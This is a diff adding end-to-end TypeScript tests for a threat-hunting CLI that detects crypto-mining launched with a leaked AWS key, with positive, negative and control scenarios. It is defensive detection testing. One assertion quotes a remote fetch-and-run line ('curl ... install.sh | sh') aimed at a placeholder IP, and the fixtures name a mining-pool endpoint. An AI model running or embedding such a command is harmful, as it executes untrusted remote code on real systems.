@@ -1,0 +1,253 @@
+/**
+ * End to end, issue 14 acceptance 2 and 3 on AWS: the AN0744 scenarios in test/fixtures/scenarios/cloud/
+ * (CloudTrail with 3 days of routine history, VPC flow logs, Route 53 Resolver query logs, CloudWatch
+ * get-metric-data; see its README) through the real CLI, `hunt DIR --format ndjson`, one run per scenario.
+ * Positives: the leaked key's 20 GPU miners are one high finding with the launch facts, cost and AWS plan;
+ * without network logs medium with the gap named; the denied GPU launch alone low, named as an attempt.
+ * Negatives: legitimate launches under load raise nothing above informational; each negative's own files
+ * are checked to hold the pinned CPU and the launch it claims, so "no finding" is not a scenario never read.
+ */
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import type { Finding } from '../../src/model/finding.js';
+import { ndjsonFindings, runCli } from '../support/cli.js';
+
+const SCENARIOS = join(import.meta.dirname, '..', 'fixtures', 'scenarios', 'cloud');
+const POLICIES: Record<string, string> = { 'aws-terraform-gpu': join(SCENARIOS, 'aws-terraform-gpu-policy.yaml') };
+const ACCOUNT = '123456789012';
+const LEAKED = `arn:aws:iam::${ACCOUNT}:user/ci-backup`;
+const LEAKED_KEY = 'AKIA3EXAMPLELEAKED01';
+
+/** The source each file of a scenario is written in (by the name the generator gives it). */
+function formatOf(file: string): string {
+  if (file.startsWith('cloudtrail')) return 'cloudtrail';
+  if (file === 'vpc-flow.log') return 'vpc-flow';
+  if (file === 'resolver-queries.log') return 'route53-resolver';
+  if (file === 'cloudwatch-cpu.json') return 'cloudwatch-metrics';
+  throw new Error(`unexpected file ${file} in a cloud scenario`);
+}
+
+interface Run {
+  findings: Finding[];
+  stderr: string;
+}
+
+const runs = new Map<string, Run>();
+
+/** `hunt DIR --format ndjson`: exit 0, every file read by its own source, no bad record. */
+function huntDir(dir: string, label: string, policy?: string): Run {
+  const r = runCli(['hunt', dir, '--format', 'ndjson', ...(policy ? ['--policy', policy] : [])]);
+  assert.equal(r.code, 0, r.stderr);
+  assert.doesNotMatch(r.stderr, /bad input|not read/, `${label}: every record is read\n${r.stderr}`);
+  const formats = new Map<string, number>();
+  for (const file of readdirSync(dir)) formats.set(formatOf(file), (formats.get(formatOf(file)) ?? 0) + 1);
+  const files = [...formats.values()].reduce((a, b) => a + b, 0);
+  assert.match(r.stderr, new RegExp(`coalmine: ${files} files \\(`), r.stderr);
+  for (const [format, n] of formats)
+    assert.match(r.stderr, new RegExp(`\\b${format} ${n}\\b`), `${label}: ${format}\n${r.stderr}`);
+  return { findings: ndjsonFindings(r.stdout), stderr: r.stderr };
+}
+
+function hunt(name: string): Run {
+  const cached = runs.get(name);
+  if (cached) return cached;
+  const run = huntDir(join(SCENARIOS, name), name, POLICIES[name]);
+  runs.set(name, run);
+  return run;
+}
+
+/** The one AN0744 finding of a positive scenario, and nothing else above informational. */
+function an0744(run: Run, label: string): Finding {
+  const raised = run.findings.filter((f) => f.severity !== 'informational');
+  assert.equal(raised.length, 1, `${label}: one finding\n${JSON.stringify(raised, null, 1)}`);
+  assert.equal(raised[0].analytic, 'AN0744');
+  return raised[0];
+}
+
+type TrailRecord = {
+  eventName: string;
+  errorCode?: string;
+  requestParameters: { instanceType?: string } | null;
+  responseElements: { instancesSet: { items: Array<{ instanceId: string }> } } | null;
+};
+
+/** The incident hour's CloudTrail records of a scenario. */
+function trail(name: string): TrailRecord[] {
+  return (JSON.parse(readFileSync(join(SCENARIOS, name, 'cloudtrail.json'), 'utf8')) as { Records: TrailRecord[] })
+    .Records;
+}
+
+/** Instance ids the scenario's incident-hour RunInstances calls returned. */
+function launched(name: string): string[] {
+  return trail(name)
+    .filter((r) => r.eventName === 'RunInstances' && r.responseElements)
+    .flatMap((r) => r.responseElements?.instancesSet.items.map((i) => i.instanceId) ?? []);
+}
+
+function list(f: Finding, fact: string): string[] {
+  const v = f.facts[fact];
+  assert.ok(Array.isArray(v), `facts.${fact} is a list: ${JSON.stringify(f.facts)}`);
+  return v;
+}
+
+function containmentCommands(f: Finding): string[] {
+  assert.ok(f.triage, 'the playbook ran');
+  return f.triage.containment.steps.flatMap((s) => s.commands);
+}
+
+/** Leaked-key facts shared by the high and the medium story. */
+function assertLeakedKeyLaunch(f: Finding, name: string): void {
+  assert.equal(f.facts.provider, 'aws');
+  assert.equal(f.facts.account, ACCOUNT);
+  assert.equal(f.facts.region, 'ap-southeast-3');
+  assert.equal(f.facts.principal, LEAKED);
+  assert.equal(f.facts.access_key_id, LEAKED_KEY);
+  assert.equal(f.facts.source_ip, '203.0.113.77');
+  assert.deepEqual(list(f, 'instance_types'), ['g4dn.xlarge']);
+  assert.equal(f.facts.instance_count, 20);
+  assert.equal(f.facts.launch_operation, 'RunInstances');
+  assert.match(String(f.facts.user_data), /curl -fsSL http:\/\/198\.51\.100\.23\/x\/install\.sh \| sh/);
+  const ids = launched(name);
+  assert.equal(ids.length, 20);
+  const listed = list(f, 'instances');
+  assert.ok(listed.length > 0 && listed.every((id) => ids.includes(id)), JSON.stringify(listed));
+  assert.ok(f.entity === `instance:aws:${listed[0]}` || f.entity.startsWith(`instance:aws:${ACCOUNT}:`), f.entity);
+  // judged against the 3 days of history: a first-seen key launching GPUs in a first-seen region
+  assert.match(String(f.facts.authorization), /first launch by arn:aws:iam::123456789012:user\/ci-backup/);
+  assert.match(String(f.facts.authorization), /region ap-southeast-3 first used in the account/);
+  assert.match(String(f.facts.authorization), /3 days of audit history/);
+  assert.equal(f.triage?.escalation.tier, 'Tier 2');
+  const cost = f.triage?.cost;
+  assert.ok(cost && (cost.instance_hours ?? 0) > 15 && cost.amount > 0, JSON.stringify(cost));
+  const commands = containmentCommands(f);
+  for (const wanted of [
+    new RegExp(`aws iam update-access-key --status Inactive --access-key-id ${LEAKED_KEY}\\b`),
+    /aws ec2 stop-instances --region ap-southeast-3 --instance-ids/,
+    /create-security-group --region ap-southeast-3/,
+    /describe-regions/,
+  ])
+    assert.ok(
+      commands.some((c) => wanted.test(c)),
+      `${wanted} in the plan:\n${commands.join('\n')}`,
+    );
+}
+
+test('a leaked key launching 20 GPU miners in a new region, with pool flows, lookups and CPU pinned: one high AN0744 finding', () => {
+  const f = an0744(hunt('aws-leaked-key'), 'aws-leaked-key');
+  assert.equal(f.severity, 'high');
+  assert.deepEqual([...f.legs].sort(), ['authorization', 'reach', 'resource']);
+  assert.deepEqual(f.gaps, []);
+  assertLeakedKeyLaunch(f, 'aws-leaked-key');
+  // each leg cites the file that said so
+  const cited = (kind: string, file: RegExp) =>
+    assert.ok(
+      f.evidence.some((e) => e.kind === kind && file.test(e.source)),
+      `${kind} from ${file}: ${f.evidence.map((e) => `${e.kind} ${e.source}`).join(', ')}`,
+    );
+  cited('unauthorized-launch', /aws-leaked-key\/cloudtrail\.json:\d+$/);
+  cited('pool-contact', /aws-leaked-key\/resolver-queries\.log:\d+$/);
+  cited('mining-port', /aws-leaked-key\/vpc-flow\.log:\d+$/);
+  assert.ok(
+    f.evidence.some((e) => e.kind === 'sustained-cpu' && /pinned from launch/.test(e.explanation)),
+    JSON.stringify(f.evidence.map((e) => e.explanation)),
+  );
+  assert.ok(list(f, 'destinations').includes('203.0.113.10:3333'), JSON.stringify(f.facts.destinations));
+  assert.ok((f.facts.cpu_pct_peak as number) >= 97, String(f.facts.cpu_pct_peak));
+});
+
+test('the same story without flow or DNS logs is medium and names the missing network logs', () => {
+  const f = an0744(hunt('aws-leaked-key-noflows'), 'aws-leaked-key-noflows');
+  assert.equal(f.severity, 'medium');
+  assert.deepEqual([...f.legs].sort(), ['authorization', 'resource']);
+  assert.ok(
+    f.gaps.some((g) => /no flow or DNS logs for aws account 123456789012 ap-southeast-3/.test(g)),
+    `a gap names the missing flow and DNS logs: ${JSON.stringify(f.gaps)}`,
+  );
+  assertLeakedKeyLaunch(f, 'aws-leaked-key-noflows');
+});
+
+test('the denied GPU launch alone is low, named as an attempt, with the gaps that would decide it', () => {
+  const [call] = trail('aws-denied-gpu');
+  assert.equal(call.errorCode, 'Client.UnauthorizedOperation');
+  const f = an0744(hunt('aws-denied-gpu'), 'aws-denied-gpu');
+  assert.equal(f.severity, 'low');
+  assert.deepEqual(f.legs, ['authorization']);
+  assert.match(
+    f.title,
+    /^Denied cloud launch: an attempt to launch 8 p3\.16xlarge in aws account 123456789012 ap-southeast-3 by /,
+  );
+  assert.equal(f.facts.principal, LEAKED);
+  assert.equal(f.facts.access_key_id, LEAKED_KEY);
+  assert.equal(f.facts.denied_requests, 1);
+  assert.deepEqual(list(f, 'instance_types'), ['p3.16xlarge']);
+  assert.equal(f.facts.instances, undefined, 'no instance was made');
+  assert.match(String(f.facts.authorization), /denied by the provider \(Client\.UnauthorizedOperation\)/);
+  assert.ok(
+    f.gaps.some((g) => /no flow or DNS logs/.test(g)),
+    JSON.stringify(f.gaps),
+  );
+  assert.ok(
+    f.gaps.some((g) => /no instance CPU metrics/.test(g)),
+    JSON.stringify(f.gaps),
+  );
+  assert.equal(f.triage?.escalation.tier, 'Tier 2');
+});
+
+/** Instances whose CloudWatch CPU stayed at ≥ 85% for at least `minutes`. */
+function pinnedInstances(name: string, minutes: number): string[] {
+  const doc = JSON.parse(readFileSync(join(SCENARIOS, name, 'cloudwatch-cpu.json'), 'utf8')) as {
+    MetricDataResults: Array<{ Label: string; Timestamps: string[]; Values: number[] }>;
+  };
+  const pinned: string[] = [];
+  for (const r of doc.MetricDataResults) {
+    const points = r.Timestamps.map((t, i) => [Date.parse(t), r.Values[i]] as const).sort((a, b) => a[0] - b[0]);
+    let since: number | undefined;
+    for (const [t, v] of points) {
+      if (v < 85) since = undefined;
+      else since ??= t;
+      if (since !== undefined && t - since >= minutes * 60_000) {
+        pinned.push(r.Label.split(' ')[0]);
+        break;
+      }
+    }
+  }
+  return pinned;
+}
+
+const NEGATIVES: Array<{ name: string; minutes: number; launches: boolean }> = [
+  { name: 'aws-asg-scale-out', minutes: 30, launches: true },
+  { name: 'aws-terraform-gpu', minutes: 30, launches: true },
+  { name: 'aws-nightly-batch', minutes: 30, launches: true },
+  { name: 'aws-spot-replacement', minutes: 15, launches: true },
+  { name: 'aws-busy-server', minutes: 14 * 24 * 60 - 60, launches: false },
+];
+
+for (const { name, minutes, launches } of NEGATIVES) {
+  test(`negative ${name}: legitimate compute under load raises nothing above informational`, () => {
+    const hot = pinnedInstances(name, minutes);
+    const ids = launches ? launched(name) : hot;
+    assert.ok(ids.length > 0, `${name}: the scenario launches what it is about`);
+    assert.ok(
+      ids.every((id) => hot.includes(id)),
+      `${name}: each instance it is about is pinned for ${minutes} minutes: ${JSON.stringify({ ids, hot })}`,
+    );
+    const { findings } = hunt(name);
+    const raised = findings.filter((f) => f.severity !== 'informational');
+    assert.deepEqual(
+      raised.map((f) => `${f.severity} ${f.analytic} ${f.entity}: ${f.title}`),
+      [],
+      JSON.stringify(raised, null, 1),
+    );
+  });
+}
+
+test('control: without its cloud: policy the Terraform GPU launch is reported, so the policy is what approved it', () => {
+  const run = huntDir(join(SCENARIOS, 'aws-terraform-gpu'), 'aws-terraform-gpu without policy');
+  const f = an0744(run, 'aws-terraform-gpu without policy');
+  assert.equal(f.severity, 'medium');
+  assert.deepEqual([...f.legs].sort(), ['authorization', 'resource']);
+  assert.deepEqual(list(f, 'instance_types'), ['p4d.24xlarge']);
+  assert.match(String(f.facts.authorization), /GPU or very large instances \(p4d\.24xlarge\)/);
+});
